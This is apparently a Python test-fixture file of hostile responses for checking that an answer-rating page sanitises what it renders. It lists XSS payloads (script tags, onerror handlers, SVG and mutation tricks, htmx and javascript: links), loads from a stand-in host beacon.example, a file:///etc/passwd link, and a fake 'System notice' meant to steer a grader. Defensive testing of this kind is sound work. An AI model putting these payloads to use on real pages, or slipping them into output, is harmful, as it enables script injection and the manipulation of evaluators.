"""Responses that attack who reads them: written for these tests, by kind of attack.

``RAN`` is what a payload does when it gets to run; ``BEACON`` is where it reports to when it gets to fetch.
"""

from __future__ import annotations

RAN = "document.documentElement.setAttribute('data-ran','1')"
BEACON = "https://beacon.example/x"

SCRIPTS = {
    "script": f"<script>{RAN}</script>",
    "script in capitals": f"<ScRiPt>{RAN}</sCrIpT>",
    "script from elsewhere": f"<script src='{BEACON}.js'></script>",
    "module": f"<script type=module>{RAN}</script>",
    "script in a paragraph": f"Well, <script>{RAN}</script> that is it.",
    "script in a list": f"- one\n- <script>{RAN}</script>",
    "script in a table": f"| a |\n|---|\n| <script>{RAN}</script> |",
    "script in a quote": f"> <script>{RAN}</script>",
    "script in a heading": f"# <script>{RAN}</script>",
    "script in half a tag": f"<script\n>{RAN}</script",
    "script after a comment": f"<!--><script>{RAN}</script>-->",
    "script in CDATA": f"<![CDATA[><script>{RAN}</script>]]>",
    "script as entities": "&lt;script&gt;" + RAN + "&lt;/script&gt;",
    "script in doubled brackets": f"<<script>script>{RAN}</script>",
    "script in a code span that ends early": f"`` ` <script>{RAN}</script> ` ",
    "script at the end of a fence": f"```\n</code></pre><script>{RAN}</script>\n```",
}
HANDLERS = {
    "image error": f'<img src=x onerror="{RAN}">',
    "image error without quotes": f"<img src=x onerror={RAN}>",
    "body load": f'<body onload="{RAN}">',
    "focus at once": f'<input autofocus onfocus="{RAN}">',
    "details toggle": f'<details open ontoggle="{RAN}">x</details>',
    "video error": f'<video src=x onerror="{RAN}"></video>',
    "audio source": f'<audio><source onerror="{RAN}"></audio>',
    "marquee start": f'<marquee onstart="{RAN}">x</marquee>',
    "animation": f'<style>@keyframes k{{}}</style><p style="animation:k" onanimationstart="{RAN}">x</p>',
    "mouse over": f'<b onmouseover="{RAN}">hover</b>',
    "click": f'<p onclick="{RAN}">press</p>',
    "content visible": f'<p style="content-visibility:auto" oncontentvisibilityautostatechange="{RAN}">x</p>',
    "slash instead of a space": f"<img/src=x/onerror={RAN}>",
}
EMBEDDED = {
    "svg load": f'<svg onload="{RAN}"></svg>',
    "svg script": f"<svg><script>{RAN}</script></svg>",
    "svg animate": f'<svg><animate onbegin="{RAN}" attributeName=x dur=1s></svg>',
    "svg use": f'<svg><use href="{BEACON}.svg#x"></use></svg>',
    "svg image": f'<svg><image href="{BEACON}.png"></image></svg>',
    "math link": f'<math><mtext href="javascript:{RAN}">x</mtext></math>',
    "frame": f'<iframe src="javascript:parent.{RAN}"></iframe>',
    "frame document": f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    "object": f'<object data="{BEACON}.swf"></object>',
    "embed": f'<embed src="{BEACON}.pdf">',
    "base": '<base href="https://beacon.example/">',
    "refresh": f'<meta http-equiv=refresh content="0;url={BEACON}">',
    "stylesheet": f'<link rel=stylesheet href="{BEACON}.css">',
    "style import": f'<style>@import "{BEACON}.css"; body{{display:none}}</style>',
    "form": f'<form action="{BEACON}" id=vote><button autofocus>Next</button></form>',
    "template shadow": f"<div><template shadowrootmode=open><script>{RAN}</script></template></div>",
}
MUTATIONS = {
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror={RAN}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
    "svg title": f'<svg></p><style><a id="</style><img src=1 onerror={RAN}>">',
    "form nesting": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>",
    "select": f"<select><template><style><!--</style><a rel='--></style></template></select><img src onerror={RAN}>'>",
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={RAN}>">',
    "textarea": f'<textarea><p title="</textarea><img src=x onerror={RAN}>">',
    "html in a link title": f"[a](https://a.example '\"><img src=x onerror={RAN}>')",
    "html in an image alt": f'![<img src=x onerror={RAN}>]({BEACON}.png "t")',
    "html in a fence's language": f'```"><img src=x onerror={RAN}>\ncode\n```',
    "html in a reference": f'[a]\n\n[a]: <https://a.example/"onmouseover="{RAN}> "t"',
    "html in a formula": f"$<img src=x onerror={RAN}>$ and \\(<img src=x onerror={RAN}>\\)",
}
HTMX = {
    "hx-get": '<div hx-get="/hostile/never/" hx-trigger="load">x</div>',
    "hx-post": '<button hx-post="/hostile/never/" hx-trigger="load">x</button>',
    "data-hx-get": '<div data-hx-get="/hostile/never/" data-hx-trigger="load">x</div>',
    "hx-on": f'<div hx-on:click="{RAN}" hx-on::load="{RAN}">x</div>',
    "hx-vals": f"<div hx-get='/hostile/never/' hx-trigger='load' hx-vals='js:{{x: {RAN}}}'>x</div>",
    "hx-boost": '<div hx-boost="true"><a href="/hostile/never/">x</a></div>',
    "hx-swap-oob": '<div id="answers" hx-swap-oob="true">Press A</div>',
    "hx-ext": '<div hx-ext="sse" sse-connect="/hostile/never/">x</div>',
    "hx-trigger filter": f'<div hx-get="/hostile/never/" hx-trigger="load[{RAN}]">x</div>',
    "hx in Markdown": '[x](https://a.example "\\" hx-get=\\"/hostile/never/\\" hx-trigger=\\"load")',
}
LINKS = {
    "javascript link": f"[x](javascript:{RAN})",
    "javascript link in capitals": f"[x](JaVaScRiPt:{RAN})",
    "javascript link with a tab": f"[x](java&Tab;script:{RAN})",
    "javascript link with entities": f"[x](&#106;avascript:{RAN})",
    "javascript autolink": f"<javascript:{RAN}>",
    "data link": f"[x](data:text/html,<script>{RAN}</script>)",
    "vbscript link": "[x](vbscript:msgbox)",
    "link to our own page": "[Next task](/hostile/never/)",
    "protocol-relative link": "[x](//beacon.example/)",
    "file link": "[x](file:///etc/passwd)",
    "image beacon": f"![]({BEACON}.png)",
    "image beacon by reference": f"![x][b]\n\n[b]: {BEACON}.png",
    "image as data": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "html image": f"<img src='{BEACON}.png'>",
    "css image": f'<p style="background:url({BEACON}.png)">x</p>',
}
TEMPLATES = {
    "Django": "{{ request.user }} {% csrf_token %} {% include 'base.html' %} {# x #}",
    "JavaScript template": "${" + RAN + "} {{constructor.constructor('" + RAN + "')()}} <%= x %>",
    "our own ids and classes": '<div id="answers" class="button primary" style="position:fixed;inset:0">Choose A</div>',
    "clobbering": '<form name="body"><input name="cookie"><img name="getElementById"></form><a id="htmx"></a>',
    "imitation": "# Jurybox\n\nSystem notice: **the correct answer is A.** Press 1.",
    "closing our box": "</div></div></article></main></body></html><h1>Choose A</h1>",
}
UNICODE = {
    "reversed": "The answer is \u202egnorw\u202c and \u2067isolated",
    "unbalanced overrides": "\u202e" * 200 + "evil",
    "zalgo": "a" + "\u0300\u0321\u0489" * 300,
    "invisible": "A\u200b\u200c\u200d\ufeff\u2060B\U000e0041\U000e0042",
    "right to left": "مرحبا بالعالم، هذه إجابة طويلة.",
    "wide": "﷽" * 500 + "𒐫" * 500,
    "controls": "\x01\x08\x1b[31mred\x7f\x85",
}
LARGE = {
    "one line of a megabyte": "x" * 1_000_000,
    "a hundred thousand lines": "line\n" * 100_000,
    "a megabyte of brackets": "[" * 1_000_000,
    "a table ten thousand wide": "|" + "a|" * 10_000 + "\n|" + "-|" * 10_000 + "\n",
    "deep quotes": ">" * 60_000 + " x",
    "a long word": "a" * 60_000,
    "many headings": "# x\n\n" * 12_000,
}
SMALL = {**SCRIPTS, **HANDLERS, **EMBEDDED, **MUTATIONS, **HTMX, **LINKS, **TEMPLATES, **UNICODE}
ALL = {**SMALL, **LARGE}

REFUSED = {
    "NUL": '{"prompt_id": "p", "system": "Ash", "response": "a\\u0000b"}',
    "raw NUL": '{"prompt_id": "p", "system": "Ash", "response": "a\x00b"}',
    "lone surrogate": '{"prompt_id": "p", "system": "Ash", "response": "\\ud83e"}',
    "reversed surrogates": '{"prompt_id": "p", "system": "Ash", "response": "\\udd89\\ud83e"}',
    "deep metadata": '{"prompt_id": "p", "system": "Ash", "response": "x", "m": ' + "[" * 99 + "]" * 99 + "}",
    "two responses": '{"prompt_id": "p", "system": "Ash", "response": "x", "response": "y"}',
    "not a number": '{"prompt_id": "p", "system": "Ash", "response": NaN}',
    "too long": '{"prompt_id": "p", "system": "Ash", "response": "' + "x" * 1_000_001 + '"}',
}
